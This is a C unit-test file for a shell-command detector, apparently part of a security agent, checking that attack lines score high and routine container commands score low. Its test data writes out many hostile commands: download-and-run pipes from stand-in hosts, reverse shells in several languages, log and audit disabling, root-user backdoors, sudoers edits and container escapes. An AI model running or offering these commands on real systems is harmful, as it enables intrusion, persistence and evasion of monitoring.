#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "agent/detect/command_matcher.h"
#include "tests/plain_features.h"

static struct command_matcher *matcher;

static int start(void **state)
{
    (void)state;
    matcher = command_matcher_new();
    return matcher ? 0 : -1;
}

static int stop(void **state)
{
    (void)state;
    command_matcher_free(matcher);
    return 0;
}

static void tell(const struct command_score *score)
{
    for (int i = 0; i < n_command_features; i++)
        if (command_has(score, i))
            print_message("    %s %u\n", command_features[i].name, command_features[i].weight);
}

static uint32_t score_of(const char *line, struct command_score *score)
{
    return command_score_line(matcher, line, strlen(line), 0, score) ? score->total : 0;
}

#define EXEC COMMAND_EXECUTION
#define EVADE COMMAND_DEFENSE_EVASION
#define PERSIST COMMAND_PERSISTENCE
#define RAISE COMMAND_PRIVILEGE_ESCALATION

static const struct {
    enum command_class class;
    uint32_t at_least;
    const char *line;
} attacks[] = {
    { EXEC, COMMAND_SCORE_HIGH, "sh -c curl -s http://45.9.148.99/x.sh | sh" },
    { EXEC, COMMAND_SCORE_HIGH, "sh -c wget -q -O - http://45.9.148.99/x.sh|bash -s -- a" },
    { EXEC, COMMAND_SCORE_LOW, "sh -c curl http://evil.example.com/i.sh | sudo bash" },
    { EXEC, COMMAND_SCORE_MEDIUM, "bash -c bash <(curl -fsSL https://pastebin.com/raw/abcd)" },
    { EXEC, COMMAND_SCORE_MEDIUM, "sh -c sh -c \"$(curl -fsSL http://93.184.216.34/i)\"" },
    { EXEC, COMMAND_SCORE_MEDIUM, "sh -c echo Y3VybCBldmlsLmNvbQ== | base64 -d | sh" },
    { EXEC, COMMAND_SCORE_MEDIUM, "bash -c echo Y3Vy|base64 --decode|/bin/bash" },
    { EXEC, COMMAND_SCORE_MEDIUM, "sh -c eval \"$(echo Y3Vy | base64 -d)\"" },
    { EXEC, COMMAND_SCORE_MEDIUM, "sh -c echo 1f8b | xxd -r -p | bash" },
    { EXEC, COMMAND_SCORE_MEDIUM, "sh -c echo 'hs | moc.live//:ptth lruc' | rev | sh" },
    { EXEC, COMMAND_SCORE_MEDIUM, "python3 -c import base64;exec(base64.b64decode('aW1wb3J0IG9z'))" },
    { EXEC, COMMAND_SCORE_MEDIUM, "php -r eval(base64_decode('c3lzdGVtKCJpZCIpOw=='));" },
    { EXEC, COMMAND_SCORE_HIGH, "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1" },
    { EXEC, COMMAND_SCORE_HIGH, "bash -c exec 5<>/dev/tcp/evil.example.com/443;cat <&5 | while read l; do $l 2>&5 >&5; done; sh <&5" },
    { EXEC, COMMAND_SCORE_HIGH, "bash -c 0<&196;exec 196<>/dev/tcp/10.0.0.9/4444; sh <&196 >&196 2>&196" },
    { EXEC, COMMAND_SCORE_HIGH, "nc -e /bin/sh 203.0.113.9 4444" },
    { EXEC, COMMAND_SCORE_HIGH, "ncat 203.0.113.9 4444 --exec /bin/bash" },
    { EXEC, COMMAND_SCORE_HIGH, "busybox nc 203.0.113.9 4444 -e sh" },
    { EXEC, COMMAND_SCORE_HIGH, "socat TCP:203.0.113.9:4444 EXEC:/bin/bash,pty,stderr" },
    { EXEC, COMMAND_SCORE_HIGH, "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f" },
    { EXEC, COMMAND_SCORE_HIGH, "sh -c mknod /tmp/b p; telnet 203.0.113.9 80 0</tmp/b | /bin/bash 1>/tmp/b" },
    { EXEC, COMMAND_SCORE_MEDIUM, "sh -c telnet 203.0.113.9 80 | /bin/bash | telnet 203.0.113.9 81" },
    { EXEC, COMMAND_SCORE_HIGH, "python3 -c import socket,subprocess,os;s=socket.socket();s.connect(('203.0.113.9',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])" },
    { EXEC, COMMAND_SCORE_HIGH, "python -c import socket,pty;s=socket.create_connection(('a.b',1));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn('sh')" },
    { EXEC, COMMAND_SCORE_HIGH, "perl -e use Socket;$i='203.0.113.9';socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,'>&S');exec('/bin/sh -i');" },
    { EXEC, COMMAND_SCORE_HIGH, "ruby -rsocket -e exit if fork;c=TCPSocket.new('203.0.113.9','4444');while(cmd=c.gets);IO.popen(cmd,'r'){|io|c.print io.read}end" },
    { EXEC, COMMAND_SCORE_MEDIUM, "php -r $s=fsockopen('203.0.113.9',4444);exec('/bin/sh -i <&3 >&3 2>&3');" },
    { EXEC, COMMAND_SCORE_MEDIUM, "node -e require('net').connect(4444,'a',function(){var p=require('child_process').spawn('sh');})" },
    { EXEC, COMMAND_SCORE_HIGH, "lua5.1 -e local s=require('socket').tcp();s:connect('a',1);io.popen(s:receive(),'r')" },
    { EXEC, COMMAND_SCORE_LOW, "python3 -c import pty;pty.spawn('/bin/bash')" },
    { EXEC, COMMAND_SCORE_MEDIUM, "sh -c curl http://203.0.113.9/x -o /tmp/.x; chmod +x /tmp/.x; nohup /tmp/.x >/dev/null 2>&1 &" },
    { EXEC, COMMAND_SCORE_MEDIUM, "sh -c wget http://203.0.113.9/a -O /var/tmp/a && chmod 777 /var/tmp/a && /var/tmp/a" },
    { EXEC, COMMAND_SCORE_LOW, "sh -c cd /dev/shm; wget http://203.0.113.9/m; chmod +x m; ./m" },
    { EXEC, COMMAND_SCORE_LOW, "sh -c cat$IFS/etc/passwd" },
    { EXEC, COMMAND_SCORE_LOW, "sh -c wget${IFS}http://a.example/x" },
    { EXEC, COMMAND_SCORE_LOW, "bash -c {curl,-s,http://a.example/x}" },
    { EXEC, COMMAND_SCORE_LOW, "sh -c c''url -s http://203.0.113.9/x" },
    { EXEC, COMMAND_SCORE_LOW, "sh -c printf '\\x63\\x75\\x72\\x6c\\x20\\x61\\x62' | sh" },
    { EXEC, COMMAND_SCORE_LOW, "sh -c /b?n/b?sh -c id" },
    { EXEC, COMMAND_SCORE_LOW, "sh -c wget -qO- https://a.trycloudflare.com/x | sh" },
    { EVADE, COMMAND_SCORE_LOW, "iptables -F" },
    { EVADE, COMMAND_SCORE_LOW, "ip6tables --flush" },
    { EVADE, COMMAND_SCORE_LOW, "ufw disable" },
    { EVADE, COMMAND_SCORE_LOW, "nft flush ruleset" },
    { EVADE, COMMAND_SCORE_MEDIUM, "setenforce 0" },
    { EVADE, COMMAND_SCORE_MEDIUM, "systemctl stop auditd" },
    { EVADE, COMMAND_SCORE_MEDIUM, "systemctl disable --now amazon-guardduty-agent.service" },
    { EVADE, COMMAND_SCORE_MEDIUM, "service rsyslog stop" },
    { EVADE, COMMAND_SCORE_MEDIUM, "pkill -9 falco" },
    { EVADE, COMMAND_SCORE_MEDIUM, "systemctl stop ecsguard" },
    { EVADE, COMMAND_SCORE_MEDIUM, "auditctl -e 0" },
    { EVADE, COMMAND_SCORE_LOW, "bash -c unset HISTFILE; id" },
    { EVADE, COMMAND_SCORE_LOW, "sh -c export HISTFILE=/dev/null; id" },
    { EVADE, COMMAND_SCORE_LOW, "ln -sf /dev/null /root/.bash_history" },
    { EVADE, COMMAND_SCORE_LOW, "rm -f /root/.bash_history" },
    { EVADE, COMMAND_SCORE_LOW, "sh -c > /var/log/auth.log" },
    { EVADE, COMMAND_SCORE_LOW, "rm -rf /var/log/wtmp" },
    { EVADE, COMMAND_SCORE_LOW, "truncate -s 0 /var/log/audit/audit.log" },
    { EVADE, COMMAND_SCORE_LOW, "crontab -r" },
    { EVADE, COMMAND_SCORE_MEDIUM, "sh -c echo /tmp/x.so >> /etc/ld.so.preload" },
    { EVADE, COMMAND_SCORE_LOW, "sh -c LD_PRELOAD=/tmp/x.so ls" },
    { EVADE, COMMAND_SCORE_LOW, "pkill -f xmrig" },
    { PERSIST, COMMAND_SCORE_MEDIUM, "sh -c (crontab -l; echo '* * * * * curl http://203.0.113.9/x | sh') | crontab -" },
    { PERSIST, COMMAND_SCORE_MEDIUM, "sh -c echo '*/5 * * * * root /tmp/.m' >> /etc/cron.d/m" },
    { PERSIST, COMMAND_SCORE_LOW, "sh -c echo 'ssh-rsa AAAA' >> /root/.ssh/authorized_keys" },
    { PERSIST, COMMAND_SCORE_LOW, "sh -c echo ssh-rsa AAAA | tee -a ~/.ssh/authorized_keys" },
    { PERSIST, COMMAND_SCORE_MEDIUM, "useradd -o -u 0 -g 0 -M backdoor" },
    { PERSIST, COMMAND_SCORE_LOW, "sh -c useradd -m x; echo x:y | chpasswd" },
    { PERSIST, COMMAND_SCORE_MEDIUM, "sh -c echo 'r::0:0::/root:/bin/sh' >> /etc/passwd" },
    { PERSIST, COMMAND_SCORE_LOW, "sh -c echo '/tmp/x &' >> /etc/rc.local" },
    { PERSIST, COMMAND_SCORE_LOW, "bash -c echo '[Service]' > /etc/systemd/system/x.service; systemctl enable x" },
    { RAISE, COMMAND_SCORE_LOW, "usermod -aG sudo www-data" },
    { RAISE, COMMAND_SCORE_LOW, "gpasswd -a bob docker" },
    { RAISE, COMMAND_SCORE_LOW, "sh -c echo 'www-data ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers" },
    { RAISE, COMMAND_SCORE_MEDIUM, "chmod u+s /bin/bash" },
    { RAISE, COMMAND_SCORE_MEDIUM, "chmod 4755 /tmp/rootbash" },
    { RAISE, COMMAND_SCORE_LOW, "setcap cap_setuid+ep /usr/bin/python3" },
    { RAISE, COMMAND_SCORE_MEDIUM, "nsenter -t 1 -m -u -i -n sh" },
    { RAISE, COMMAND_SCORE_MEDIUM, "nsenter --target 1 --mount" },
    { RAISE, COMMAND_SCORE_LOW, "chroot /host sh" },
    { RAISE, COMMAND_SCORE_LOW, "docker -H unix:///run/docker.sock run -v /:/mnt --rm -it alpine chroot /mnt sh" },
    { RAISE, COMMAND_SCORE_MEDIUM, "sudo find . -exec /bin/sh ;" },
    { RAISE, COMMAND_SCORE_LOW, "find . -exec /bin/sh -p ; -quit" },
    { RAISE, COMMAND_SCORE_MEDIUM, "sh -c echo /cmd > /tmp/cgrp/release_agent" },
    { RAISE, COMMAND_SCORE_MEDIUM, "sh -c echo '|/x' > /proc/sys/kernel/core_pattern" },
};

static const char *const ordinary[] = {
    /* entrypoints */
    "sh -c exec nginx -g 'daemon off;'",
    "/bin/sh /docker-entrypoint.sh nginx -g daemon off;",
    "docker-entrypoint.sh postgres",
    "bash -c exec java -XX:MaxRAMPercentage=75.0 -jar /app.jar --spring.profiles.active=prod",
    "sh -c envsubst < /etc/app.tmpl > /etc/app.conf && exec app",
    "sh -c chown -R app:app /data && exec gosu app node server.js",
    "sh -c set -e; for f in /docker-entrypoint.d/*.sh; do . \"$f\"; done; exec \"$@\"",
    "bash -c while ! nc -z db 5432; do sleep 1; done; exec ./app",
    "bash -c until (echo > /dev/tcp/db/3306) >/dev/null 2>&1; do sleep 1; done",
    "bash -c timeout 1 bash -c '</dev/tcp/127.0.0.1/8080'",
    "sh -c wait-for-it.sh db:5432 -t 60 -- python manage.py migrate",
    "sh -c python manage.py migrate --noinput && gunicorn app.wsgi -b 0.0.0.0:8000",
    "sh -c echo $SSL_KEY | base64 -d > /etc/ssl/private/key.pem && exec nginx",
    "sh -c echo \"$GCP_KEY\" | base64 --decode > /tmp/key.json; exec app",
    "sh -c adduser -D -u $UID app && exec su-exec app app",
    "sh -c usermod -u 1000 app && groupmod -g 1000 app && exec gosu app app",
    "sh -c export PATH=$PATH:/opt/bin; exec app",
    "sh -c OLDIFS=$IFS; IFS=,; for x in $HOSTS; do echo $x; done; IFS=$OLDIFS",
    "sh -c IFS= read -r line; echo \"$line\"",
    "tini -- /usr/local/bin/app --config /etc/app.yaml",
    "dumb-init -- node dist/main.js",
    "sh -c redis-server --appendonly yes --requirepass $PASS",
    "sh -c (crontab -l; echo '0 3 * * * /backup.sh') | crontab - && crond -f",
    "sh -c echo '0 * * * * app /usr/local/bin/rotate' > /etc/cron.d/rotate",
    "sh -c nohup node worker.js > /var/log/worker.log 2>&1 &",
    "sh -c ln -sf /dev/stdout /var/log/nginx/access.log && ln -sf /dev/stderr /var/log/nginx/error.log",
    "sh -c sysctl -w net.core.somaxconn=1024; exec redis-server",
    /* health checks */
    "curl -f http://localhost/health",
    "curl -fsS http://localhost:8080/healthz || exit 1",
    "sh -c curl -f http://127.0.0.1:9000/ping || exit 1",
    "sh -c wget --quiet --tries=1 --spider http://localhost:3000/ || exit 1",
    "wget -qO- http://10.0.3.7:8080/ready",
    "sh -c curl -s http://169.254.170.2/v2/metadata | jq -r .TaskARN",
    "sh -c TASK=$(curl -s ${ECS_CONTAINER_METADATA_URI_V4}/task | jq -r .TaskARN); exec app",
    "sh -c pg_isready -U postgres -d app || exit 1",
    "sh -c redis-cli ping | grep PONG",
    "sh -c mysqladmin ping -h localhost -p$MYSQL_ROOT_PASSWORD",
    "bash -c exec 3<>/dev/tcp/127.0.0.1/9000;echo -e 'GET /health HTTP/1.1\\r\\nhost: localhost\\r\\n\\r\\n' >&3;grep status <&3",
    "bash -c exec 3<>/dev/tcp/localhost/8080; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 | grep -q UP",
    "python -c import socket; socket.create_connection(('localhost', 5432), 2)",
    "python3 -c import urllib.request; urllib.request.urlopen('http://localhost:8000/health')",
    "python3 -c import subprocess,socket;s=socket.socket(socket.AF_UNIX);subprocess.run(['sh','-c','id'])",
    "node -e require('http').get('http://localhost:3000/health', r => process.exit(r.statusCode === 200 ? 0 : 1))",
    "sh -c nc -z localhost 6379",
    "nc -zv db.internal 5432",
    "sh -c ps aux | grep '[n]ginx' || exit 1",
    "sh -c test -f /tmp/healthy",
    "grpc_health_probe -addr=:50051",
    /* packages and builds */
    "apt-get update",
    "sh -c apt-get update && apt-get install -y --no-install-recommends curl ca-certificates && rm -rf /var/lib/apt/lists/*",
    "sh -c apk add --no-cache bash curl && adduser -D app",
    "yum install -y httpd",
    "dnf -y upgrade",
    "pip install --no-cache-dir -r requirements.txt",
    "sh -c npm ci --omit=dev && npm cache clean --force",
    "sh -c curl -fsSL https://deb.nodesource.com/setup_18.x | bash -",
    "sh -c curl --proto =https --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
    "bash -c bash <(curl -fsSL https://get.example.com/install.sh)",
    "sh -c curl -sSL https://install.python-poetry.org | python3 -",
    "sh -c curl -fsSL https://dl.example.com/key.gpg | gpg --dearmor -o /usr/share/keyrings/x.gpg",
    "sh -c curl -fsSL -o /tmp/miniconda.sh https://repo.anaconda.com/x.sh && chmod +x /tmp/miniconda.sh && /tmp/miniconda.sh -b -p /opt/conda",
    "sh -c curl -LO https://example.com/tool.tar.gz && tar xzf tool.tar.gz && ./configure && make install",
    "sh -c wget -O /tmp/awscli.zip https://awscli.amazonaws.com/awscli.zip && unzip /tmp/awscli.zip -d /tmp && /tmp/aws/install",
    "sh -c cd /tmp && git clone https://github.com/x/y && cd y && make && make install && rm -rf /tmp/y",
    "sh -c groupadd -r app && useradd -r -g app app",
    "useradd --system --no-create-home --shell /usr/sbin/nologin nginx",
    "sh -c chmod +x /usr/local/bin/app /docker-entrypoint.sh",
    "chmod 0755 /usr/local/bin/tool",
    "chmod 1777 /tmp",
    "chmod 2775 /srv/shared",
    "setcap cap_net_bind_service=+ep /usr/bin/node",
    "sh -c rm -rf /tmp/* /var/tmp/* /root/.cache",
    "sh -c echo 'export PATH=/opt/x/bin:$PATH' >> ~/.bashrc",
    "sh -c echo 'fs.file-max=100000' >> /etc/sysctl.conf",
    "make -j4 CFLAGS=-O2",
    "gcc -O2 -o /tmp/a /tmp/a.c",
    "go build -o /app ./cmd/server",
    "mvn -B package -DskipTests",
    "docker run --rm -v /srv/data:/data alpine ls",
    "docker build -t app .",
    /* upkeep */
    "logrotate /etc/logrotate.conf",
    "sh -c /usr/sbin/invoke-rc.d rsyslog rotate",
    "systemctl restart rsyslog",
    "systemctl reload nginx",
    "service nginx restart",
    "systemctl stop nginx",
    "find /var/log -name *.gz -mtime +30 -delete",
    "sh -c pg_dump app | gzip | aws s3 cp - s3://backup/app.sql.gz",
    "sh -c tar czf - /data | openssl enc -aes-256-cbc -out /backup/x.enc",
    "sh -c gunzip -c dump.sql.gz | mysql app",
    "sh -c zcat /data/dump.gz | psql app",
    "rsync -a --delete /data/ backup:/data/",
    "crontab -l",
    "iptables -L -n",
    "iptables -A INPUT -p tcp --dport 80 -j ACCEPT",
    "ip6tables-save",
    "touch -d yesterday /tmp/marker",
    "ssh -o BatchMode=yes deploy@10.0.0.5 uptime",
    "aws s3 sync s3://bucket /data",
    "aws sts get-caller-identity",
    "kubectl get pods",
    "sh -c kill -HUP $(cat /run/nginx.pid)",
    "pkill -HUP nginx",
    "killall -USR1 php-fpm",
    "nsenter --net=/host/proc/123/ns/net ip addr",
    "su -s /bin/sh www-data -c php artisan schedule:run",
    "sudo -u postgres psql -c select 1",
    "php artisan queue:work --tries=3",
    "python -m http.server 8000",
    "python3 -c import sys; print(sys.version)",
    "perl -pi -e s/a/b/g /etc/app.conf",
    "ruby -e puts RUBY_VERSION",
    "sh -c printf '%s\\n' \"$A\" > /etc/app/conf",
    "sh -c awk '{print $1}' /var/log/nginx/access.log | sort | uniq -c | sort -rn | head",
    "sh -c cat /proc/meminfo | grep MemTotal",
    "/usr/bin/Xvfb :99 -screen 0 1280x1024x24 -nolisten tcp",
    "chrome --headless --user-data-dir=/tmp/.org.chromium.Chromium.abc --disable-gpu",
    "sh -c Xvfb :1 & DISPLAY=:1 x11vnc -auth /tmp/.X11-unix/X1",
    "git clone https://github.com/a/b.git /src",
    "sh -c echo hello world",
    "",
};

/* What the patterns also take: other words, other blanks, other case, the words at either end. */
static const char *const spellings[] = {
    "fetch http://a.b/x | ash", "lwp-download http://a.b/x |sh", "aria2c http://a.b/x | sh", ". <(fetch http://a)", "base32\t-d|\tsh", "openssl enc -d|sh",
    "openssl base64 x -d |perl", "gzip -d|sh", "xz\t-d | bash", "zcat x|sh", "python -c exec(bytes.fromhex('41'))", "perl -e eval decode_base64 frombase64",
    "ruby -e eval(x.decode64)", "php -r eval(str_rot13(x))", "python x exec(marshal", "python x exec(zlib", "fetch -o /dev/shm/x a", "curl -o /run/shm/x a",
    "chmod 755 /run/shm/x", "sh -c a;\nsetsid /run/shm/x", "a /dev/shm/.x", "wget x;./x", "sh -i >& /dev/udp/1.2.3.4/5 0>&1", "x /dev/udp/1.2.3.4", "nc\t-e sh",
    "ncat --sh-exec bash", "netcat -c sh", "nc.traditional 1 2 -e /bin/sh", "nc.openbsd 1 -c sh", "SOCAT x EXEC:sh", "mknod p p; telnet a", "telnet a | sh | telnet b",
    "ruby -rsocket TCPSocket exec(", "PERL python SOCKET connect dup2", "python pty.spawn", "import net child_process", "fsockopen (exec", "a$IFS$9b", "a.${IFS}b",
    "{nc,-e}", "{sh,a}", "{base64,-d}", "c''at x", "c\"\"at x", "c\\at x", "\\x41\\x41\\x41\\x41\\x41\\x41", "\\101\\101\\101\\101\\101\\101",
    "printf \\x41 | sh", "/b?n/c?t a", "tftp://8.8.8.8", "ftp://a:b@8.8.8.8", "nc -v 8.8.8.8", "ncat 8.8.8.8", "fetch http://a.b/c", "ANONFILE. anonfiles.com",
    "abcdefghijklmnop.ONION", "oast.me", "NGROK.io", "cdn.discordapp.com", "api.telegram.org/bot1", "disown x &", "x > /dev/null 2>&1 &", "rm -f \"$0", "& rm -f /tmp/.x",
    "&& rm /dev/shm/.x", "curl -k x", "curl a --insecure", "wget a --no-check-certificate", "ufw disable", "nft flush ruleset", "ip6tables -F", "iptables -P INPUT ACCEPT",
    "setenforce 0", "SELINUX=disabled", "aa-teardown", "aa-disable x", "aa-complain x", "apparmor_parser -R x", "service auditd stop", "/etc/init.d/auditd stop",
    "killall falco", "auditctl -D", "unset HISTFILE", "HISTFILE=/dev/null", "HISTSIZE=0", "HISTFILESIZE=0", "history -c", "set +o history", "> ~/.ash_history",
    "truncate x /var/log/wtmp", "crontab -r", "touch -d x /usr/a", "touch --reference a /lib/b", "chattr +i x", "tee -a /etc/ld.so.preload", "LD_PRELOAD=./x",
    "LD_PRELOAD='/dev/shm/x", "kill x xmrig", "pgrep stratum | kill", "x | crontab -", "crontab /run/shm/x", "> /var/spool/cron/x", "*/5\t*\t*\t*\t* x /dev/tcp",
    "* * * * * fetch x", "* * * * * /run/shm/x", "> /usr/lib/systemd/user/x", "update-rc.d x defaults", "chkconfig x on", "systemctl --now enable x", "> /etc/rc.local",
    "> /etc/rc.d/x", "> /etc/init.d/x", "> /etc/inittab", "tee /etc/profile.d/x", ">> /etc/update-motd.d/x", ">> ~/.bash_login", ">> $HOME/.zprofile",
    ">> ${HOME}/.profile", ">> /root/.zshrc", ">> .ssh/authorized_keys", "adduser x", "usermod -o -u 0 x", "usermod --uid=0", "> /etc/shadow", "| passwd --stdin",
    "usermod -p x", "| chpasswd", "gpasswd -a x sudo", "addgroup x wheel", "> /etc/sudoers.d/x", "chmod 4755 bash", "chmod u+s x", "setcap cap_setuid+ep x",
    "nsenter -t 1 sh", "chroot /hostfs", "ctr x run --privileged --pid=host", "nerdctl run -v /:/", "podman run --mount=type=bind,src=/,x", "sudo nmap --interactive",
    "find -exec sh -p", "/run/shm/x -p", ">/x/release_agent", "> /proc/sys/kernel/core_pattern", "sysctl kernel.core_pattern=|x", "unshare -r", "unshare --map-root-user",
    "logname", "last", "w", "id", "ss", "ip r", "lsof -i", "getent group", "/usr/x 169.254.169.254", "169.254.170.2/v2/credentials", "free", "docker ps", "ls a /docker.sock",
};

static void attacks_reach_their_score(void **state)
{
    (void)state;
    int failed = 0;
    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
        struct command_score score;
        uint32_t total = score_of(attacks[i].line, &score);
        if (total >= attacks[i].at_least && score.class == attacks[i].class && !score.limited)
            continue;
        failed++;
        print_message("%u instead of %u, class %d: %s\n", total, attacks[i].at_least, score.class, attacks[i].line);
        tell(&score);
    }
    assert_int_equal(failed, 0);
}

static void ordinary_lines_stay_below(void **state)
{
    (void)state;
    int failed = 0;
    for (size_t i = 0; i < sizeof ordinary / sizeof ordinary[0]; i++) {
        struct command_score score;
        uint32_t total = score_of(ordinary[i], &score);
        if (total < COMMAND_SCORE_LOW && !score.limited)
            continue;
        failed++;
        print_message("%u: %s\n", total, ordinary[i]);
        tell(&score);
    }
    assert_int_equal(failed, 0);
}

static void classes_can_be_left_out(void **state)
{
    (void)state;
    struct command_score score;
    static const char line[] = "systemctl stop auditd";
    assert_true(command_score_line(matcher, line, strlen(line), 0, &score));
    assert_false(command_score_line(matcher, line, strlen(line), 1u << COMMAND_DEFENSE_EVASION, &score));
}

static void assert_discovery(const char *line, const char *name)
{
    int i = command_discovery(matcher, line, strlen(line));
    if (name ? i < 0 || strcmp(command_features[i].name, name) : i >= 0)
        fail_msg("%s is %s, not %s", line, i < 0 ? "none" : command_features[i].name, name ? name : "none");
}

static void commands_that_look_around_are_told_apart(void **state)
{
    (void)state;
    assert_discovery("id", "id");
    assert_discovery("id -u", NULL);
    assert_discovery("whoami", "whoami");
    assert_discovery("uname -a", "system");
    assert_discovery("uname -m", NULL);
    assert_discovery("cat /etc/passwd", "accounts");
    assert_discovery("cat /etc/shadow", "password_hashes");
    assert_discovery("cat /etc/nginx/nginx.conf", NULL);
    assert_discovery("find / -perm -4000 -type f", "setuid_files");
    assert_discovery("find / -perm -u=s", "setuid_files");
    assert_discovery("find /data -name x", NULL);
    assert_discovery("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", "task_credentials");
    assert_discovery("curl 169.254.170.2/v2/credentials/abc", "task_credentials");
    assert_discovery("curl http://169.254.170.2/v4/x/task", "metadata");
    assert_discovery("env", "environment");
    assert_discovery("env FOO=1 app", NULL);
    assert_discovery("ps aux", "processes");
    assert_discovery("psql", NULL);
    assert_discovery("sudo -l", "sudo_rights");
    assert_discovery("node server.js", NULL);
    assert_discovery("id\nwhoami", NULL); /* one command, odd argument */
}

static void assert_finds_all(struct plain_features *plain, const char *line)
{
    int i = plain_features_differ(plain, matcher, line, strlen(line));
    if (i >= 0)
        fail_msg("%s: %s", command_features[i].name, line);
}

/* Its words are looked for before a pattern is asked: a line for each pattern, and for each of its words, that has it. */
static void words_hide_no_feature(void **state)
{
    (void)state;
    struct plain_features plain;
    plain_features_init(&plain);
    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++)
        assert_finds_all(&plain, attacks[i].line);
    for (size_t i = 0; i < sizeof ordinary / sizeof ordinary[0]; i++)
        assert_finds_all(&plain, ordinary[i]);
    for (size_t i = 0; i < sizeof spellings / sizeof spellings[0]; i++)
        assert_finds_all(&plain, spellings[i]);
    plain_features_fini(&plain);
}

/* A line against the patterns: it must not cost more than the bound, whatever is in it. */
static void hostile_lines_are_bounded(void **state)
{
    (void)state;
    static char line[4097];
    static const char *const seeds[] = { "curl ", "/?", "a''", "\\x41", "sh -i ", "/dev/tcp/", "find -exec ", "base64 -d|", "{curl,", "* ", "python socket ",
                                         "chmod +x /tmp/", "usermod ", "unshare a ", "systemctl --a stop ", "touch -a /bin ", "\n" };
    struct command_score score;
    for (size_t i = 0; i < sizeof seeds / sizeof seeds[0]; i++) {
        size_t n = strlen(seeds[i]);
        for (size_t at = 0; at + n < sizeof line; at += n)
            memcpy(line + at, seeds[i], n);
        command_score_line(matcher, line, sizeof line - 1, 0, &score);
        command_discovery(matcher, line, sizeof line - 1);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(attacks_reach_their_score),
        cmocka_unit_test(ordinary_lines_stay_below),
        cmocka_unit_test(classes_can_be_left_out),
        cmocka_unit_test(commands_that_look_around_are_told_apart),
        cmocka_unit_test(words_hide_no_feature),
        cmocka_unit_test(hostile_lines_are_bounded),
    };
    return cmocka_run_group_tests_name("command_features", tests, start, stop);
}
